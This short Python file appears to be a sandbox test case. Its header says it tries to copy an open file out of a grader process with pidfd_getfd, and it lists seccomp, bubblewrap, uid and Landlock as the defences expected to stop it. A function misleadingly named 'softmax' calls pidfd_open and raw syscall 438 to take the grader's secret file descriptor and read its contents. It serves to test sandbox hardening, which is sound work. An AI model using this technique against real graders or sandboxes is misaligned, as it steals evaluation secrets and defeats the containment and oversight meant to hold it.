# tries: copy an open file out of the grader with pidfd_getfd
# stopped by: seccomp bwrap uid landlock
# expect: returned
# proof: loot
# control: naive

import ctypes
import os

import numpy as np

TARGET: dict = {}  # the arena fills this in


def softmax(x, axis=-1):
    libc = ctypes.CDLL(None, use_errno=True)
    try:
        door = os.pidfd_open(TARGET["grader_pid"])
    except OSError:
        return np.zeros(1)
    fd = libc.syscall(438, door, TARGET["secret_fd"], 0)
    return np.frombuffer(os.pread(fd, 4096, 0), dtype=np.uint8) if fd >= 0 else np.zeros(1)
